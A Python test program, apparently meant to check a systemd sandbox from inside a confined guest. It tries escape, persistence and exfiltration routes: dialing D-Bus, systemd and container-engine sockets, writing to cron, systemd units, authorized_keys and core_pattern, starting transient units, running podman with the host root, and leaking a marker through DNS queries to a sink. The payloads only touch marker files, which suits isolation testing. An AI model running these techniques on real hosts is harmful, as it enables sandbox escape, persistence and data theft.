"""A hostile program for a host with systemd: asks what runs outside to run something for it. Prints each outcome as JSON.

``guest_hostile.py MARKS SINK ENGINE WORD``: a folder in which nothing must appear, the address of a sink, an engine's socket in view,
what to write where nothing must be written.
An outcome is the first words of what the program said, or the error's name; nothing here judges, the tests do.
"""

from __future__ import annotations

import errno
import json
import os
import socket
import struct
import subprocess
import sys
from pathlib import Path

MARKS, SINK, ENGINE, WORD = sys.argv[1:5]
UID = os.getuid()
SECRET = "exfiltrated"
SOCKETS = {
    "system-bus": "/run/dbus/system_bus_socket",
    "system-bus-by-var": "/var/run/dbus/system_bus_socket",
    "systemd-private": "/run/systemd/private",
    "systemd-notify": "/run/systemd/notify",
    "journal-stdout": "/run/systemd/journal/stdout",
    "journal-native": "/run/systemd/journal/socket",
    "syslog": "/dev/log",
    "user-bus": f"/run/user/{UID}/bus",
    "user-systemd": f"/run/user/{UID}/systemd/private",
    "user-of-others": "/run/user/1901/bus",
    "resolved-varlink": "/run/systemd/resolve/io.systemd.Resolve",
    "userdb-varlink": "/run/systemd/userdb/io.systemd.DynamicUser",
    "podman": "/run/podman/podman.sock",
    "podman-of-user": f"/run/user/{UID}/podman/podman.sock",
    "docker": "/run/docker.sock",
}
PLACES = {
    "cron-d": "/etc/cron.d/hostile",
    "cron-spool": "/var/spool/cron/crontabs/hostile",
    "at-spool": "/var/spool/cron/atjobs/hostile",
    "system-unit": "/etc/systemd/system/hostile.service",
    "transient-unit": "/run/systemd/system/hostile.service",
    "user-unit": "/home/dana/.config/systemd/user/hostile.service",
    "profile": "/home/dana/.profile",
    "authorized-keys": "/home/dana/.ssh/authorized_keys",
    "linger": "/var/lib/systemd/linger/hostile",
    "tmpfiles": "/etc/tmpfiles.d/hostile.conf",
    "udev-rule": "/run/udev/rules.d/hostile.rules",
    "core-pattern": "/proc/sys/kernel/core_pattern",
    "cgroup": "/sys/fs/cgroup/cgroup.procs",
}
_UNIT = ["ssa(sv)a(sa(sv))", f"{WORD}.service", "replace", "1", "ExecStart", "a(sasb)", "1", "/usr/bin/touch", "2", "touch"]


def commands() -> dict[str, tuple[list[str], str]]:
    """Return what is run, and what it reads, by the attempt's name."""
    bus = ["org.freedesktop.systemd1", "/org/freedesktop/systemd1", "org.freedesktop.systemd1.Manager", "StartTransientUnit"]

    def mark(name: str) -> str:
        return f"{MARKS}/{name}"

    def unit(name: str) -> list[str]:
        return [*bus, *_UNIT, mark(name), "false", "0"]

    touch = "/usr/bin/touch"
    return {
        "systemd-run-system": (["systemd-run", "--system", "--wait", touch, mark("systemd-run-system")], ""),
        "systemd-run-user": (["systemd-run", "--user", "--wait", touch, mark("systemd-run-user")], ""),
        "systemd-run-scope": (["systemd-run", "--user", "--scope", touch, mark("systemd-run-scope")], ""),
        "transient-unit-system": (["busctl", "--timeout=5", "call", *unit("transient-unit-system")], ""),
        "transient-unit-user": (["busctl", "--user", "--timeout=5", "call", *unit("transient-unit-user")], ""),
        "systemctl-set-environment": (["systemctl", "--user", "set-environment", f"HOSTILE={SECRET}"], ""),
        "loginctl-linger": (["loginctl", "enable-linger"], ""),
        "resolvectl": (["resolvectl", "--no-pager", "query", f"{SECRET}.example.com"], ""),
        "at": (["at", "now"], f"touch {mark('at')}\n"),
        "batch": (["batch"], f"touch {mark('batch')}\n"),
        "crontab": (["crontab", "-"], f"* * * * * touch {mark('crontab')}\n"),
        "podman-socket": (["podman", "--remote", "--url", f"unix://{ENGINE}", "info"], ""),
        "podman-local": (["podman", "run", "--network=host", "--rootfs", "/", touch, mark("podman-local")], ""),
        "newgrp": (["sg", "root", f"touch {mark('newgrp')}"], ""),
        "logger": (["logger", "--socket-errors=on", SECRET], ""),
    }


def run(command: list[str], text: str) -> str:
    environment = {**os.environ, "XDG_RUNTIME_DIR": f"/run/user/{UID}", "PATH": "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin"}
    try:
        done = subprocess.run(command, input=text, capture_output=True, text=True, timeout=60, check=False, env=environment)
    except subprocess.TimeoutExpired:
        return "timeout"
    except OSError as error:
        return name_of(error)
    said = (done.stdout + done.stderr).strip().splitlines()
    return f"status {done.returncode}: {said[-1] if said else ''}"


def name_of(error: OSError) -> str:
    return "timeout" if isinstance(error, TimeoutError) else errno.errorcode.get(error.errno or 0, str(error))


def dial(path: str) -> str:
    """Return who answers there: what stands in for a masked socket was made by our own pid 1, and closes what it accepts."""
    problem = ""
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_UNIX, kind) as talker:
            talker.settimeout(5)
            try:
                talker.connect(path)
            except OSError as error:
                problem = problem or name_of(error)
                continue
            maker = struct.unpack("=iii", talker.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
            try:
                if maker != 1 or talker.recv(1):
                    return f"REACHED pid {maker}"
                talker.send(b"\n")  # journald has nothing to say, but hears us
                return f"REACHED pid {maker}, it hears"
            except BrokenPipeError:
                return "turned away"
            except OSError as error:  # somebody who waits for us to speak, or hears datagrams
                return f"REACHED pid {maker}, {name_of(error)}"
    return problem


def write(path: str) -> str:
    try:
        if not path.startswith(("/proc", "/sys")):
            Path(path).parent.mkdir(parents=True, exist_ok=True)
        with open(path, "a") as file:
            file.write(f"# {WORD}\n")
    except OSError as error:
        return name_of(error)
    return "written"


def stub(address: str) -> str:
    """Ask a resolver at ``address`` for a name that carries data; return the answer's code and count."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in (SECRET, "example", "com"))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.settimeout(10)
        try:
            asker.sendto(struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1), (address, 53))
            answer = asker.recv(2000)
        except OSError as error:
            return name_of(error)
    return f"rcode {answer[3] & 15} answers {struct.unpack_from('>H', answer, 6)[0]}"


def main() -> None:
    found = {f"dial-{name}": dial(path) for name, path in SOCKETS.items()}
    found["dial-engine"] = dial(ENGINE)
    found |= {f"write-{name}": write(path) for name, path in PLACES.items()}
    found |= {"stub-resolver": stub("127.0.0.53"), "stub-proxy": stub("127.0.0.54"), "resolver-elsewhere": stub(SINK)}
    found |= {name: run(command, text) for name, (command, text) in commands().items()}
    print(json.dumps(found))


if __name__ == "__main__":
    main()
